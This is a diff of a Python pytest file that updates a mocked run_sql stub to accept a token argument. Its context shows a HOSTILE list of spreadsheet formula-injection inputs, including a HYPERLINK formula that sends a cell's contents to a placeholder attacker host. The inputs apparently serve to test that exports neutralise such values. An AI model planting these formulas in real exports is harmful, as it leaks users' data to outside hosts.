@@ -19,7 +19,7 @@ HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3",
 @pytest.fixture
 def canned(monkeypatch):
     result = {"columns": ["name", "n"], "rows": [[v, i] for i, v in enumerate(HOSTILE)] + [[None, -5]]}
-    monkeypatch.setattr("streams.cli.commands.run_sql", lambda query, params=None: result)
+    monkeypatch.setattr("streams.cli.commands.run_sql", lambda query, params=None, token=None: result)
     return result
 
 
